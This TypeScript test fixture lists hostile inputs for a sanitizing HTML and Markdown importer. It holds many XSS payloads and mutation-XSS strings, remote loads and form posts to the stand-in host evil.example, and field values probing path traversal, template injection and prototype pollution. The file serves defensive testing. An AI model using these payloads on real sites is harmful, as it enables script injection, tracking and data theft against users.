/** One attempt to get something past the importer. */
export interface HostileVector {
  file: 'html' | 'md' | 'txt'
  text: string
  /** An element left open that takes the rest of the page with it, in every browser. */
  swallowsRest?: true
}

const html = (text: string): HostileVector => ({ file: 'html', text })
const markdown = (text: string): HostileVector => ({ file: 'md', text })
const openEnded = (text: string): HostileVector => ({ file: 'html', text, swallowsRest: true })

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script\t\n>',
  '<script type="module">import("//evil.example/x.js")</script>',
  '<script type="application/ld+json">{"@type":"NewsArticle"}</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="//evil.example/x.js"/></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<noscript><p title="</noscript><script>alert(1)</script>"></noscript>',
  '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  '<table><script>alert(1)</script><tr><td>cell</td></tr></table>',
]

const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)" alt="x">',
  '<img/src="x"/onerror=alert(1)>',
  '<p onclick="alert(1)" onmouseover=alert(1)>text</p>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<details open ontoggle=alert(1)><summary>x</summary>y</details>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<h2 onclick=alert(1) id="x" data-anchor="&quot; onload=alert(1) x=&quot;">Heading</h2>',
  '<a href="https://a.example/" onclick="alert(1)" target="_blank" ping="//evil.example/">link</a>',
  '<ul style="animation:x" onanimationstart=alert(1)><li onclick=alert(1)>item</li></ul>',
]

const addresses = [
  '<a href="javascript:alert(1)">link</a>',
  '<a href="JaVaScRiPt:alert(1)">link</a>',
  '<a href="  javascript:alert(1)">link</a>',
  '<a href="java\tscript:alert(1)">link</a>',
  '<a href="java&#10;script:alert(1)">link</a>',
  '<a href="java&NewLine;script&colon;alert(1)">link</a>',
  '<a href="&#106;&#97;vascript&#58;alert(1)">link</a>',
  '<a href="&#x01;javascript:alert(1)">link</a>',
  '<a href="\u200bjavascript:alert(1)">link</a>',
  '<a href="javascript&#x3A;//%0aalert(1)">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
  '<a href="blob:https://a.example/1">link</a>',
  '<a href="file:///etc/passwd">link</a>',
  '<a href="//evil.example/">link</a>',
  '<a href="\\\\evil.example\\x">link</a>',
  '<a href="feed:javascript:alert(1)">link</a>',
  '<a xlink:href="javascript:alert(1)">link</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">go</button></form>',
]

const loads = [
  '<img src="https://evil.example/pixel.png" width=1 height=1>',
  '<img srcset="https://evil.example/a.png 2x" src="//evil.example/a.png">',
  '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>',
  '<figure><img src="https://evil.example/a.png"><figcaption>Caption</figcaption></figure>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="media://0000000000000000000000000000000000000000000000000000000000000000">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"><param name=x value=y><p>inside</p></object>',
  '<embed src="https://evil.example/x.swf">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel="preload" as="script" href="//evil.example/x.js">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css"; body{background:url(//evil.example/a)}</style>',
  '<p style="background:url(https://evil.example/a.png)">text</p>',
  '<div style="background-image:\\75rl(//evil.example)">text</div>',
  '<table background="https://evil.example/a.png"><tr><td background="//evil.example/b">x</td></tr></table>',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>',
  '<audio src="//evil.example/a.mp3" autoplay></audio>',
  '<svg><image href="https://evil.example/a.png"/><use href="//evil.example/x.svg#a"/></svg>',
  '<form action="https://evil.example/"><input name=q><textarea>x</textarea></form>',
  '<html manifest="https://evil.example/m"><p>text</p>',
]

/** Markup that a browser parses otherwise than it was written: what looks inert becomes a tag. */
const mutations = [
  '<p title="</p><img src=x onerror=alert(1)>">text</p>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>',
  '<code>&lt;/code&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p>\u2028\u2029</p><p>]]&gt;&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;</p>',
  '<h2>&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</h2>',
  '<h2>"><img src=x onerror=alert(1)></h2>',
  '<h1 data-headline>Second headline</h1><p data-standfirst>Second standfirst</p>',
  '<b><a href="javascript:alert(1)"><b></a><img src=x onerror=alert(1)></b>',
  '<a href="https://a.example/"><a href="javascript:alert(1)">nested</a></a>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=`javascript:alert(1)`>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
]

const inMarkdown = [
  '[link](javascript:alert(1))',
  '[link](<java\nscript:alert(1)>)',
  '[link](JAVASCRIPT&colon;alert(1))',
  '[link](data:text/html,<script>alert(1)</script>)',
  '[link][x]\n\n[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](https://evil.example/a.png)',
  '![x" onerror="alert(1)](x)',
  '![x](javascript:alert(1) "t\' onerror=alert(1)")',
  '![x][p]\n\n[p]: //evil.example/a.png "title"',
  '<div onclick="alert(1)">\n\n**text**\n\n</div>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | d |',
  '## <img src=x onerror=alert(1)> Heading',
  '> <iframe src="https://evil.example/"></iframe>\n> quote',
  '- <svg onload=alert(1)>\n- item',
  '\\<script>alert(1)\\</script>',
  'a<b onmouseover=alert(1)>b</b>',
]

export const hostileVectors: readonly HostileVector[] = [
  ...[...scripts, ...handlers, ...addresses, ...loads, ...mutations].map(html),
  ...inMarkdown.map(markdown),
  { file: 'txt', text: '<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>' },
  ...[
    '<!-- <script>alert(1)</script>',
    '<textarea><script>alert(1)</script>',
    '<script>alert(1)',
    '<style>*{',
    '<noscript><style></noscript><img src=x onerror=alert(1)>',
    '<title><img src=x onerror=alert(1)>',
  ].map(openEnded),
]

/** Texts for every field of the front matter. */
export const hostileTexts: readonly string[] = [
  '</title><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</script><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '<!--',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202egnp.exe\u2066',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '{{7*7}}#{7*7}<%= 7*7 %>',
  '__proto__',
  'CON',
]
